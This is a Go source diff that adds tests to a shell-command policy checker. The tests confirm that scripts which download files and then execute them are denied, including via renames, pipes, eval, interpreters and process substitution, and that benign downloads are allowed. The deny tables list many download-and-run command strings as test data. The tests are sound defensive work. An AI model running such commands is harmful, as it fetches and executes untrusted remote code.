@@ -1,6 +1,10 @@
 package policy
 
-import "testing"
+import (
+	"fmt"
+	"strings"
+	"testing"
+)
 
 // The scripts in these tables were run in real bash and dash, in a
 // sandbox with stub programs: each deleted / (or similar) or read a
@@ -407,4 +411,197 @@ func TestSessionAndLimitWrappers(t *testing.T) {
 		"dbus-launch --exit-with-session make",
 		"schroot -c sid -- make",
 	})
+}
+
+// TestDownloadSavedUnderDefaultNames: a download saved under the URL's
+// name (curl -O, wget), a name the server picks (curl -OJ), or by another
+// downloader's output options, and run later in the request.
+func TestDownloadSavedUnderDefaultNames(t *testing.T) {
+	p := mustCompile(t, Default(), testEnv)
+	wantAction(t, p, Deny, []string{
+		"curl -O http://h/i.sh; sh i.sh",
+		"curl --remote-name http://h/i.sh; sh i.sh",
+		"curl -OJ http://h/i.sh; sh i.sh",
+		"curl -OJ http://h/x; sh other.sh",
+		"curl -sSLO http://h/i.sh; ./i.sh",
+		"curl -O 'http://h/i.sh?v=1#top'; sh i.sh",
+		"curl -O http://h/my%20i.sh; sh 'my i.sh'",
+		"curl --url http://h/i.sh -O; sh i.sh",
+		"curl -O \"$BASE/i.sh\"; sh i.sh",
+		"curl -O \"$URL\"; sh i.sh",
+		"wget http://h/i.sh && bash i.sh",
+		"wget http://h/; sh index.html",
+		"wget 'http://h/i.sh?v=1'; sh 'i.sh?v=1'",
+		"wget -q http://h/i.sh; chmod +x i.sh; ./i.sh",
+		"wget -P d http://h/i.sh; sh d/i.sh",
+		"wget --directory-prefix=d http://h/i.sh; sh d/i.sh",
+		"wget --output-document i.sh http://h/x; sh i.sh",
+		"wget --content-disposition http://h/x; sh i.sh",
+		"wget -r http://h/; sh h/sub/i.sh",
+		"curl --output-dir d -O http://h/i.sh; sh d/i.sh",
+		"curl --output-dir d -o i.sh http://h/x; sh d/i.sh",
+		"aria2c -o f x; sh f",
+		"aria2c -d d -o f x; sh d/f",
+		"aria2c http://h/i.sh; sh i.sh",
+		"http --download x -o f; sh f",
+		"http -d http://h/x; sh i.sh",
+		"xh -o f http://h/x; sh f",
+		"axel -o f http://h/x; sh f",
+		"axel http://h/i.sh; sh i.sh",
+		"fetch http://h/i.sh; sh i.sh",
+		"lwp-download http://h/x f; sh f",
+		"lwp-download http://h/x; sh i.sh",
+	})
+	wantAction(t, p, Allow, []string{
+		"curl -o data.json https://x; jq . data.json",
+		"curl -LO https://x/tool.tar.gz && tar xzf tool.tar.gz",
+		"wget https://x/file.csv; wc -l file.csv",
+		"curl -fsSL https://x -o get.sh; less get.sh",
+		"git clone https://x r && make -C r",
+		"curl -O http://h/i.sh; sh other.sh",
+		"wget -P d http://h/i.sh; sh i.sh",
+		"curl -H 'X: 1' -o out.html http://h/i.sh; sh i.sh",
+		"wget -o log.txt http://h/data; sh log.txt",
+	})
+}
+
+// TestSavedDownloadFedToCode: a saved download reaches a shell or an
+// interpreter some other way than "sh FILE": as stdin, through a filter,
+// a substitution, a script operand or a startup file.
+func TestSavedDownloadFedToCode(t *testing.T) {
+	p := mustCompile(t, Default(), testEnv)
+	wantAction(t, p, Deny, []string{
+		"curl -o f x; sh < f",
+		"curl -o f x; bash 0< f",
+		"curl -o f x; cat f | sh",
+		"curl -o f x; head -n 100 f | sed s/a/b/ | bash",
+		"curl -o f x; sh -c \"$(cat f)\"",
+		"curl -o f x; eval \"$(<f)\"",
+		"curl -o f x; s=$(cat f); eval \"$s\"",
+		"curl -o f x; python3 f",
+		"curl -o f x; python3 -u -X dev f",
+		"curl -o f x; perl -I lib f",
+		"curl -o f x; node f",
+		"curl -o f x; awk -f f data",
+		"curl -o f x; python3 < f",
+		"curl -o f x; source f",
+		"curl -o f x; . ./f",
+		"curl -o f x; BASH_ENV=f bash -c true",
+		"curl -o f x; bash --rcfile f -i",
+		"curl -O http://h/i.sh; cat i.sh | sh",
+	})
+	wantAction(t, p, Allow, []string{
+		"curl -o data.json x; python3 parse.py data.json",
+		"curl -o data.json x; jq . data.json | less",
+		"curl -o f x; wc -l < f",
+		"curl -o f x; grep foo f | head",
+		"curl -o f x; n=$(wc -l < f); echo $n",
+		"curl -o f x; awk '{print $1}' f",
+		"curl -o f x; python3 -c 'print(1)' f",
+	})
+}
+
+// TestDownloadMovedBeforeRun: a download moved, copied, linked or
+// installed under another name, or run by name from a PATH the request
+// set.
+func TestDownloadMovedBeforeRun(t *testing.T) {
+	p := mustCompile(t, Default(), testEnv)
+	wantAction(t, p, Deny, []string{
+		"curl -o f x; mv f g; sh g",
+		"curl -o f x; cp f g; sh g",
+		"curl -o f x; cp -- f g; ./g",
+		"curl -o f x; mkdir d; cp f d; sh d/f",
+		"curl -o f x; cp -t d f; sh d/f",
+		"curl -o f x; ln -s f g; sh g",
+		"curl -o f x; ln -s f d/g; sh d/g",
+		"curl -o f x; ln f g; sh g",
+		"curl -o d/f x; mv d e; sh e/f",
+		"curl -o d/f x; cp -r d e; sh e/d/f",
+		"curl -OJ --output-dir d x; mv d e; sh e/i.sh",
+		"curl -o f x; rsync -a f g; sh g",
+		"curl -o f x; install -m755 f /usr/local/bin/g; g",
+		"curl -o f x; install -m 755 -t /opt/t f; /opt/t/f",
+		"curl x | cp /dev/stdin g; sh g",
+		"curl -o f x; chmod +x f; PATH=.:$PATH f",
+		"curl -o f x; chmod +x f; export PATH=$PWD:$PATH; f",
+		"mkdir t; curl -o t/g x; chmod +x t/g; PATH=t:$PATH g",
+		"curl -o f x; chmod +x f; env PATH=.:$PATH f",
+	})
+	wantAction(t, p, Allow, []string{
+		"curl -o f x; cp f g; cat g",
+		"curl -o f x; mv f data.json; jq . data.json",
+		"curl -o f x; cp g h; sh h",
+		"curl -o f x; install -d /opt/t; sh /opt/t/g",
+		"curl -o f x; PATH=.:$PATH g",
+		"curl -o tool.tar.gz x; tar xzf tool.tar.gz; PATH=bin:$PATH make",
+	})
+}
+
+// TestDownloadWrittenThroughFilter: downloaded content that passes
+// through a filter, a block or a copy tool before reaching a file taints
+// the file.
+func TestDownloadWrittenThroughFilter(t *testing.T) {
+	p := mustCompile(t, Default(), testEnv)
+	wantAction(t, p, Deny, []string{
+		"curl x | cat > f; sh f",
+		"curl x | sed s/a/b/ > f; sh f",
+		"curl x | dd of=f; sh f",
+		"curl x | sponge f; sh f",
+		"curl x | tee f > /dev/null; sh f",
+		"curl -o f x; dd if=f of=g; sh g",
+		"curl -o f x; cat f > g; sh g",
+		"curl -o f x; cat < f > g; sh g",
+		"{ curl x; } > f; sh f",
+		"(curl x) > f; sh f",
+		"curl -o f x; echo true >> f; sh f",
+		"echo \"$(curl x)\" > f; sh f",
+	})
+	wantAction(t, p, Allow, []string{
+		"curl x | jq . > out.json; cat out.json",
+		"curl x | cat > f; less f",
+		"echo true > f; sh f",
+		"curl -o f x; echo true > g; sh g",
+	})
+}
+
+// TestDownloadIntoProcessSubstitution: stdout redirected into >(...),
+// which reads what the command prints.
+func TestDownloadIntoProcessSubstitution(t *testing.T) {
+	p := mustCompile(t, Default(), testEnv)
+	wantAction(t, p, Deny, []string{
+		"curl x > >(sh)",
+		"curl x 1> >(bash -s)",
+		"curl x &> >(sh)",
+		"curl x >& >(sh)",
+		"curl x >> >(python3)",
+		"curl x | cat > >(sh)",
+		"curl -o f x; cat f > >(sh)",
+		"{ curl x; } > >(sh)",
+		"exec > >(sh); curl x",
+	})
+	wantAction(t, p, Allow, []string{
+		"curl x > >(jq .)",
+		"make > >(tee build.log)",
+		"echo hi > >(sh)",
+		"curl x 2> >(sh)",
+		"exec > >(tee log); curl x",
+	})
+}
+
+// TestDownloadCopiesBounded: copies of a directory of downloads, again
+// and again, multiply what the walker follows; past a bound the request
+// is refused rather than judged slowly.
+func TestDownloadCopiesBounded(t *testing.T) {
+	p := mustCompile(t, Default(), testEnv)
+	var sb strings.Builder
+	for i := range 600 {
+		fmt.Fprintf(&sb, "curl -o d/f%d http://x/%d\n", i, i)
+	}
+	for i := range 600 {
+		fmt.Fprintf(&sb, "cp -r d e%d\n", i)
+	}
+	d := p.Check(Request{Script: sb.String()})
+	if d.Action != Deny || !strings.Contains(d.Reason, "downloaded files to follow") {
+		t.Errorf("Check(600 downloads, 600 copies) = %v; want a refusal", d)
+	}
 }
